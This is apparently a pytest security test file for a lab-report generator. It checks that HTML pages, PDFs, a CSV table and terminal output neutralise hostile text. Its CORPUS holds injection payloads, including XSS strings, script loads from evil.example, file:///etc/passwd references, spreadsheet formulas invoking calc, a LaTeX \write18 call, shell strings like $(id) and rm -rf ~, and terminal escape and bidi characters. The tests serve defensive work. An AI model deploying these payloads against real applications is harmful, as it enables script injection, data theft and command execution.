"""What an author writes is text: in the page, the PDF, the table of runs and the terminal.

Every place of a lab that takes text is given something that means more than text somewhere. The
same lab with harmless words in those places must have the same structure, down to each attribute.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pages import DRAWN, VOID, Page, check_policy
from typer.testing import CliRunner

from labreport.cli.app import app

CODES = ("zh", "en")

CORPUS = [
    "<script>alert(document.domain)</script>",
    "</title><script src=//evil.example/x.js></script>",
    "</style><style>@import 'http://evil.example/x.css';</style>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)><use href='data:image/svg+xml,x'/></svg>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<link rel=stylesheet href=file:///etc/passwd>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=a></form>",
    "<object data=file:///etc/passwd></object><embed src=x>",
    "<!--><script>x()</script><!-->",
    "]]><![CDATA[<x/>",
    "url(http://evil.example/a.png) expression(alert(1))",
    "} body { display: none } @page { content: 'x' }",
    "&lt;script&gt; &#60;script&#62; &#x3c;script&#x3e;",
    "{{ 7 * 7 }} {% for x in y %} ${7*7} #{7*7}",
    "%s %n {0} {subject} {self.__class__}",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'a,b;"c""d\nnext line',
    "$\\input{/etc/passwd}$ \\write18{id} $x_{$",
    "[x](http://evil.example) ![y](file:///etc/passwd) <http://evil.example>",
    "[red]bold[/] [link=http://evil.example]x[/link] :smile:",
    "../../etc/passwd C:\\Windows\\win.ini \\\\evil\\share",
    "%1 !c `id` $(id) ; rm -rf ~ | & > x",
    "tab\there",
    "e\u0301 ½ ™ 𝒜 ＜script＞ ﹤b﹥",
]
"""Texts that a lab may hold."""

REFUSED = [
    *(
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b]8;;http://evil.example\x1b\\x",
        "\x00",
        "\x08",
    ),
    *("\x7f", "\x9b31m", "\x85", "line\rover", "\u202eexe.txt", "\u2066x\u2069", "\u200fx"),
]
"""Control characters and marks that turn the direction of writing: no text may hold them."""

SPOKEN = r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]"


def lab_with(texts: list[str], base_text: str) -> str:
    """A lab with one of the texts in each place, round and round."""
    count = iter(range(10**6))

    def text() -> str:
        return json.dumps(texts[next(count) % len(texts)], ensure_ascii=False)

    cover = "\n".join(
        f"{key}.{code} = {text()}"
        for key in ("course", "title", "student", "number", "class", "major", "place", "date")
        for code in CODES
    )
    lab = f"check_fonts = false\n{base_text}[cover]\n{cover}\nteacher = {text()}\n"
    lab += f"[purpose]\nzh = {text()}\nen = {text()}\n"
    for name in "abcd":
        lab += f"[experiment.{name}]\ntitle.zh = {text()}\ntitle.en = {text()}\n"
        lab += f"question.zh = {text()}\nquestion.en = {text()}\n"
        for variant, rate in (("one", 1.0), ("two", 2.0), ("three", 0.5)):
            lab += f'[[experiment.{name}.variant]]\nname = "{variant}"\n'
            lab += f"change.optimizer.learning_rate = {rate}\n"
            lab += f"label.zh = {text()}\nlabel.en = {text()}\n"
    lab += f"[appendix.again]\ntitle = {text()}\nchange.rounds = 5\n"
    assert next(count) > len(CORPUS)
    return lab


TOLD_IN_NOTES = {
    text: codes
    for text in CORPUS
    for start, codes in (
        ("$", {"note-formula-command", "note-formula"}),
        ("[x]", {"note-picture-address"}),
    )
    if text.startswith(start)
}
"""Of the corpus, what a note does not show but tells, with the codes of its faults."""


def notes_with(texts: list[str]) -> dict[str, str]:
    # Pictures from elsewhere are told as well.
    texts = [t for t in texts if t not in TOLD_IN_NOTES and not t.startswith("![")]
    return {f"{name}.md": "\n\n".join(texts) for name in ("a", "reflection")}


class Shape(HTMLParser):
    """The tags of a page with the names of their attributes, and its text.

    Of pictures, which hold as many letters as their texts, only that they are pictures.
    """

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.inside: list[str] = []
        self.tags: list[tuple[str, ...]] = []
        self.values: list[tuple[str, str]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        drawn = "svg" in self.inside
        self.inside += [tag] if tag not in VOID else []
        if drawn:
            assert tag in DRAWN, tag
            assert not any(name.startswith("on") for name, _ in attributes)
            return
        self.tags.append((tag, *(name for name, _ in attributes)))
        self.values += [(name, value or "") for name, value in attributes]

    def handle_endtag(self, tag: str) -> None:
        assert self.inside.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.inside and self.inside[-1] in ("style", "script"):
            return
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data}")


def squeezed(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture(scope="module")
def harmless() -> list[str]:
    """Words in place of the corpus, as many and all different."""
    return [f"word{number}x" for number in range(len(CORPUS))]


def test_a_page_has_the_same_structure_whatever_the_texts_are(
    build_pages: Callable[..., Any], base_text: str, harmless: list[str], tmp_path: Path
) -> None:
    plain = build_pages(lab_with(harmless, base_text))
    expected = {code: Shape(plain.html(code)) for code in CODES}
    hostile = build_pages(lab_with(CORPUS, base_text))
    shown = ""
    for code in CODES:
        check_policy(hostile.html(code))
        found = Shape(hostile.html(code))
        assert found.tags == expected[code].tags
        shown += squeezed(found.text)
        for name, value in found.values:
            if name in ("href", "src"):
                assert value.startswith("#"), value
            assert not name.startswith("on")
    for text in CORPUS:
        assert squeezed(text) in shown, text


ALLOWED_IN_NOTES = {
    *("p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br"),
    *("h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}


def test_notes_bring_no_more_than_the_shape_of_text(
    build_pages: Callable[..., Any], base_text: str, harmless: list[str]
) -> None:
    lab = lab_with(harmless, base_text)
    spoken = [f"x{mark}y" for mark in REFUSED] + ["&#x202e;x &#7; &#x1b;[31m &rlm;"]
    plain = build_pages(lab, notes_with(harmless))
    expected = {code: Shape(plain.html(code)) for code in CODES}
    hostile = build_pages(lab, notes_with([*CORPUS, *spoken]))
    for code in CODES:
        page = hostile.html(code)
        found = Shape(page)
        more = [tag for tag in found.tags if tag not in expected[code].tags]
        assert {tag[0] for tag in more} <= ALLOWED_IN_NOTES
        assert all(len(tag) == 1 for tag in more)
        assert not re.search(SPOKEN, page)
        assert "<script>alert(document.domain)</script>" in found.text


DRAWN_BESIDE = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><path d="M0 0L9 9"/></svg>'
)

RICH = r"""# T

$a = \frac{1}{2}$ [x](https://x.example/?a=<b>&c="d") <mailto:a@b.example>[^n] ![p "> <q](d.svg)

| a | b |
|--:|:-:|
| ~~1~~ | $$b < 2$$ |

```python
print("</code><script>x()</script>")  # <b>
```

- [x] done

[^n]: <script>alert(1)</script>
"""


def test_what_notes_may_have_keeps_the_policy_of_the_page(
    build_pages: Callable[..., Any], base_text: str
) -> None:
    lab = base_text + '[experiment.a]\ntitle = "A"\n'
    names = ("a.md", "purpose.md", "principle.md", "reflection.md")
    built = build_pages(lab, {"d.svg": DRAWN_BESIDE} | dict.fromkeys(names, RICH))
    for code in CODES:
        text = built.html(code)
        check_policy(text)
        page = Page(text)
        names_of = [value for _, attributes in page.elements if (value := attributes.get("id"))]
        assert len(names_of) == len(set(names_of))
        for tag, attributes in page.elements:
            assert not any(name.startswith("on") or name == "style" for name in attributes), tag
            if tag == "a":
                address = attributes["href"]
                assert address.startswith(("#", "https://x.example/", "mailto:a@b.example"))
                assert not address.startswith("#footnote") or address[1:] in names_of
            if tag == "img":
                assert attributes["src"].startswith("data:image/svg+xml;base64,")
                assert attributes["alt"] == 'p "> <q'
        assert "<script>alert(1)</script>" in page.text
        assert len(page.of("img")) == 2 * len(names)


@pytest.mark.parametrize("text", TOLD_IN_NOTES)
def test_what_a_note_cannot_show_is_told(base_text: str, text: str, tmp_path: Path) -> None:
    path = tmp_path / "lab.toml"
    path.write_text(base_text + '[experiment.a]\ntitle = "A"\n', encoding="utf-8")
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "a.md").write_text(f"one\n\n{text}\n", encoding="utf-8")
    done = CliRunner().invoke(app, ["check", "--json", str(path)])
    assert done.exit_code == 2
    faults = json.loads(done.stdout)["faults"]
    assert {fault["code"] for fault in faults} == TOLD_IN_NOTES[text]
    assert {fault["line"] for fault in faults} == {3}


def objects(pdf: pikepdf.Pdf) -> Iterator[pikepdf.Object]:
    yield pdf.Root
    yield pdf.trailer
    yield from pdf.objects


ACTS = {
    *("/JavaScript", "/JS", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"),
    *("/OpenAction", "/AA", "/EmbeddedFiles", "/EmbeddedFile", "/RichMedia", "/XFA", "/AcroForm"),
}


def test_a_pdf_of_hostile_texts_runs_fetches_and_opens_nothing(
    build_lab: Callable[..., Any], base_text: str
) -> None:
    built = build_lab(lab_with(CORPUS, base_text), notes_with(CORPUS))
    for code in CODES:
        with pikepdf.open(built.pdf(code)) as pdf:
            count = 0
            for thing in objects(pdf):
                if isinstance(thing, pikepdf.Dictionary | pikepdf.Stream):
                    count += 1
                    assert not ACTS & set(thing.keys())
                    assert str(thing.get("/S", "")) not in ACTS
            assert count > 100
    # Nothing in the table of runs is a formula, and no text breaks its rows.
    text = (built.output / "runs.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + 4 * 3 * 2
    assert {len(row) for row in rows} == {len(rows[0])}
    for cell in (cell for row in rows for cell in row):
        assert (
            re.fullmatch(r"-?[\d.]+(e[+-]?\d+)?|-?inf", cell)
            or cell[:1] not in "=+-@\t\r"
            or not cell
        )


@pytest.mark.parametrize("locale", ["zh_CN.UTF-8", "en_US.UTF-8"])
def test_the_terminal_is_told_text(base_text: str, locale: str, tmp_path: Path) -> None:
    path = tmp_path / "lab.toml"
    path.write_text(lab_with(CORPUS, base_text), encoding="utf-8")
    for arguments in (["check"], ["check", "--json"], ["list"], ["list", "--json"]):
        done = CliRunner().invoke(app, [*arguments, str(path)], env={"LC_ALL": locale})
        assert done.exit_code == 0
        assert not re.search(SPOKEN, done.output)
        if "--json" in arguments:
            json.loads(done.stdout)


@pytest.mark.parametrize("locale", ["zh_CN.UTF-8", "en_US.UTF-8"])
@pytest.mark.parametrize("text", REFUSED)
def test_marks_that_speak_to_a_terminal_are_refused_in_silence(
    base_text: str, text: str, locale: str, tmp_path: Path
) -> None:
    path = tmp_path / "lab.toml"
    for written in (json.dumps(text), f'"{text}"'):
        lab = base_text + f"[experiment.a]\ntitle = {written}\n"
        path.write_bytes(lab.encode())
        for arguments in (["check"], ["build"], ["list"], ["check", "--json"]):
            done = CliRunner().invoke(app, [*arguments, str(path)], env={"LC_ALL": locale})
            assert done.exit_code == 2
            assert not re.search(SPOKEN, done.output)
    assert [entry.name for entry in tmp_path.iterdir()] == ["lab.toml"]


@pytest.mark.parametrize("name", ["\x1b[31mx", "<b>x", "../../x", "=1+1", "\u202ex", "x" * 3000])
def test_names_on_the_command_line_are_told_as_text(
    base_text: str, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("lab.toml").write_text(base_text + '[experiment.a]\ntitle = "A"\n', encoding="utf-8")
    for arguments in (
        ["build", name],
        ["build", "lab.toml", "--only", name],
        ["build", "lab.toml", "--lang", name],
        ["build", "lab.toml", "--device", name],
        ["new", "folder", "--exercise", name],
        ["check", name],
        ["rules", name],
        [name],
    ):
        done = CliRunner().invoke(app, arguments)
        assert done.exit_code == 2
        assert not re.search(SPOKEN, done.output)
    assert [entry.name for entry in tmp_path.iterdir()] == ["lab.toml"]
